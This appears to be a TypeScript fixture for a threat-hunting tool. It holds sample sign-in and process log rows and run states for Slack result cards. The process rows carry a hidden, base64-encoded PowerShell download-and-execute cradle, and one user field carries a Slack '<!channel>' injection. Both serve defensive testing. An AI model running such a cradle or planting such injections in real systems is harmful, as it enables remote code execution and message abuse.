import type { HuntQuery } from '../../src/domain/query';
import { isSettled, type Run, type RunQuery } from '../../src/domain/run';
import type { Cell, ColumnType } from '../../src/ports/query-engine';
import type { QueryResult } from '../../src/views/result-card';
import { ada, daysAgo, hostile, minutesAgo, now, slackThread } from './example-people';
import { officeQuery, powershellQuery, pushQuery, ruleQuery, sprayQuery, ticketQuery } from './example-queries';

export interface ExampleRows {
  columns: { name: string; type: ColumnType }[];
  rows: Cell[][];
}

function rowsOf(columns: Record<string, ColumnType>, rows: Cell[][]): ExampleRows {
  return { columns: Object.entries(columns).map(([name, type]) => ({ name, type })), rows };
}

const agent =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';

export const sprayRows = rowsOf(
  {
    UserPrincipalName: 'string',
    IPAddress: 'string',
    AutonomousSystemNumber: 'int',
    AccountsTried: 'long',
    Failures: 'long',
    FirstSeen: 'datetime',
    LastSeen: 'datetime',
    SignedIn: 'long',
    StoppedAtSecondFactor: 'long',
    Applications: 'dynamic',
    UserAgents: 'dynamic',
  },
  [
    [
      'marta.oliveira@fernhill.example',
      '203.0.113.66',
      64502,
      53,
      71,
      '2026-11-18T06:52:04.1180000Z',
      '2026-11-18T07:23:40.0000000Z',
      1,
      9,
      ['Office 365 Exchange Online', 'My Apps'],
      [agent],
    ],
    [
      'tomasz.wrona@fernhill.example',
      '203.0.113.71',
      64502,
      49,
      60,
      '2026-11-17T23:11:48.0000000Z',
      '2026-11-17T23:11:48.0000000Z',
      0,
      1,
      ['Office 365 Exchange Online'],
      ['python-requests/2.32.3'],
    ],
    [
      'ines.ferreira@fernhill.example',
      '203.0.113.94',
      64502,
      51,
      66,
      '2026-11-18T01:40:09.4300000Z',
      '2026-11-18T01:41:00.0000000Z',
      0,
      2,
      ['Azure Portal'],
      ['python-requests/2.32.3'],
    ],
  ],
);

const encoded =
  'powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AJwApAA==';

export const powershellRows = rowsOf(
  {
    Payload: 'string',
    Machines: 'long',
    Runs: 'long',
    FirstSeen: 'datetime',
    DeviceName: 'string',
    ProcessCommandLine: 'string',
    Account: 'string',
    Parents: 'dynamic',
  },
  [
    [
      encoded.slice(-180),
      1,
      1,
      '2026-11-18T09:41:22.7710000Z',
      'FH-WS-003',
      encoded,
      'tomasz.wrona@fernhill.example',
      ['WINWORD.EXE'],
    ],
    [
      encoded.slice(-140),
      2,
      4,
      '2026-11-19T11:40:02.0000000Z',
      'FH-APP02',
      `cmd.exe /c ${encoded}`,
      'adm-rkeller@fernhill.example',
      ['WmiPrvSE.exe', 'cmd.exe'],
    ],
  ],
);

export const signIns = rowsOf(
  {
    TimeGenerated: 'datetime',
    UserPrincipalName: 'string',
    IPAddress: 'string',
    ResultType: 'string',
    AppDisplayName: 'string',
    UserAgent: 'string',
  },
  Array.from({ length: 10 }, (_, index) => [
    `2026-11-18T0${index % 10}:1${index % 6}:04.1180000Z`,
    index === 4
      ? '<!channel>@fernhill.example'
      : `${['marta.oliveira', 'tomasz.wrona', 'ines.ferreira'][index % 3]}@fernhill.example`,
    `203.0.113.${60 + index * 7}`,
    ['50126', '0', '50074'][index % 3] ?? '0',
    ['Office 365 Exchange Online', 'Azure Portal'][index % 2] ?? '',
    index === 6 ? hostile : agent,
  ]),
);

export const countRows = rowsOf(
  { IPAddress: 'string', Failures: 'long', Accounts: 'long', Share: 'real' },
  Array.from({ length: 10 }, (_, index) => [
    `203.0.113.${66 + index}`,
    Math.round(12_071 / (index + 1) ** 2),
    53 - index * 5,
    0.8125 / (index + 1),
  ]),
);

/** Twelve columns, as a table of Sentinel has them. */
export const wideRows = rowsOf(
  {
    TenantId: 'string',
    TimeGenerated: 'datetime',
    EventID: 'int',
    Activity: 'string',
    Computer: 'string',
    Account: 'string',
    TargetUserName: 'string',
    LogonType: 'int',
    IpAddress: 'string',
    ProcessName: 'string',
    CommandLine: 'string',
    EventData: 'dynamic',
  },
  Array.from({ length: 20 }, (_, index) => [
    '0b3f4c1e-5a7d-4a53-9d5e-000000000001',
    `2026-11-19T1${index % 10}:${10 + index}:37.5430000Z`,
    [4624, 4688, 7045, 4769][index % 4] ?? 4624,
    ['An account was successfully logged on.', 'A new process has been created.'][index % 2] ?? '',
    `FH-APP0${(index % 3) + 1}.fernhill.example`,
    `FERNHILL\\${['adm-rkeller', 'svc-backup', 'SYSTEM'][index % 3]}`,
    ['adm-rkeller', '-', 'FH-DC01$'][index % 3] ?? '',
    [3, 10, 5][index % 3] ?? 3,
    `10.20.4.${10 + index}`,
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    index % 4 === 1 ? encoded : index % 7 === 3 ? hostile : 'whoami /all',
    {
      SubjectUserSid: 'S-1-5-18',
      LogonGuid: '{00000000-0000-0000-0000-000000000000}',
      KeyLength: 0,
      Url: 'http://telemetry-sync.example/u',
    },
  ]),
);

/** A query of a run; what is not given is that of one that waits. */
export function runQuery(
  of: Pick<HuntQuery, 'id' | 'name' | 'text'> & Partial<HuntQuery>,
  given: Partial<RunQuery> = {},
): RunQuery {
  return {
    id: of.id,
    name: of.name,
    text: of.text,
    tactics: of.tactics ?? [],
    techniques: of.techniques ?? [],
    entityMappings: of.entityMappings ?? [],
    state: 'waiting',
    attempt: 0,
    columns: [],
    rows: 0,
    truncated: false,
    notes: [],
    ...given,
  };
}

function done(
  of: HuntQuery,
  result: ExampleRows | undefined,
  seconds: number,
  rows = result?.rows.length ?? 0,
): RunQuery {
  return runQuery(of, {
    state: 'done',
    attempt: 1,
    columns: result?.columns ?? [],
    rows,
    startedAt: minutesAgo(2),
    finishedAt: new Date(minutesAgo(2).getTime() + seconds * 1000),
  });
}

export function exampleRun(queries: RunQuery[], given: Partial<Run> = {}): Run {
  const run: Run = {
    id: 'R-7',
    version: 1,
    number: 7,
    hunt: 'H-4',
    engine: 'duckdb',
    from: daysAgo(30),
    to: now,
    asOf: now,
    asOfGiven: false,
    queries,
    state: 'running',
    requestedBy: ada,
    createdAt: minutesAgo(2),
    thread: slackThread,
    progress: { state: 'sent' },
    result: { state: 'none' },
  };
  const settled: Partial<Run> = isSettled(run)
    ? { state: 'done', finishedAt: new Date(minutesAgo(2).getTime() + 9400) }
    : {};
  return { ...run, ...settled, ...given };
}

/** The sample logs end at a moment of their own, which queries take as now. */
export const sampleClock = {
  from: new Date('2026-10-26T00:13:00Z'),
  to: new Date('2026-11-25T00:13:00Z'),
  asOf: new Date('2026-11-25T00:13:00Z'),
  asOfGiven: true,
};

const kqlText =
  'SigninLogs\n| where ResultType == "50126"\n| summarize Failures = count(), Accounts = dcount(UserPrincipalName) by IPAddress\n| top 10 by Accounts';
const typed = { id: 'kql', name: `${kqlText.replace(/\s+/g, ' ').slice(0, 59)}…`, text: kqlText };
const started = { startedAt: minutesAgo(0.2), attempt: 1 };
const failure = {
  code: 'unknown-name',
  message: 'There is no column “IPAdress”. Did you mean “IPAddress”?',
  line: 3,
  column: 14,
};

export const runs = {
  waiting: exampleRun([sprayQuery, pushQuery, powershellQuery].map((query) => runQuery(query))),
  running: exampleRun([
    done(sprayQuery, sprayRows, 1.3),
    done(ruleQuery, undefined, 0.4),
    runQuery(pushQuery, { state: 'running', ...started }),
    runQuery(powershellQuery),
    runQuery(officeQuery),
  ]),
  cancelling: exampleRun([done(sprayQuery, sprayRows, 1.3), runQuery(pushQuery, { state: 'running', ...started })], {
    state: 'cancelling',
    cancelledBy: ada,
  }),
  cancelled: exampleRun(
    [
      done(sprayQuery, sprayRows, 1.3),
      runQuery(pushQuery, { state: 'cancelled' }),
      runQuery(officeQuery, { state: 'cancelled' }),
    ],
    {
      state: 'cancelled',
      cancelledBy: ada,
    },
  ),
  several: exampleRun(
    [
      done(sprayQuery, sprayRows, 1.3),
      done(ruleQuery, undefined, 0.4),
      done(pushQuery, signIns, 2.8, 48),
      done(powershellQuery, powershellRows, 0.9),
      runQuery(officeQuery, { state: 'failed', error: failure, ...started }),
      done(ticketQuery, undefined, 0.6),
    ],
    sampleClock,
  ),
  one: exampleRun([runQuery(typed, { ...done(sprayQuery, countRows, 0.7, 812), ...typed })], { id: 'R-8' }),
  truncated: exampleRun(
    [
      runQuery(typed, {
        ...done(sprayQuery, signIns, 4.2, 100_000),
        ...typed,
        truncated: true,
        notes: ['Counts of distinct values are exact here; Kusto’s dcount is an estimate.'],
      }),
    ],
    { id: 'R-9', hunt: undefined },
  ),
  failed: exampleRun([runQuery(typed, { state: 'failed', error: failure, ...started })], { id: 'R-10' }),
  empty: exampleRun([done(sprayQuery, undefined, 0.5), done(ruleQuery, undefined, 0.2)], {
    id: 'R-11',
    from: daysAgo(7),
  }),
  old: exampleRun([done(sprayQuery, wideRows, 0.5, 20)], {
    id: 'R-12',
    from: new Date('2024-03-01T00:00:00Z'),
    to: new Date('2024-03-04T12:00:00Z'),
    asOf: new Date('2024-03-04T12:00:00Z'),
    asOfGiven: true,
  }),
} satisfies Record<string, Run>;

const held = new Map<string, ExampleRows>([
  [sprayQuery.id, sprayRows],
  [pushQuery.id, signIns],
  [powershellQuery.id, powershellRows],
]);

/** What a run's result card is given: the first rows of each query that ended well. */
export function resultsOf(run: Run, only?: ExampleRows): QueryResult[] {
  return run.queries
    .filter((query) => query.state === 'done')
    .map((query) => {
      const rows = query.rows === 0 ? [] : ((only ?? held.get(query.id))?.rows.slice(0, 10) ?? []);
      return {
        query,
        rows,
        ...(query.rows > rows.length ? { file: `http://127.0.0.1:3978/files/${run.id}.csv` } : {}),
      };
    });
}
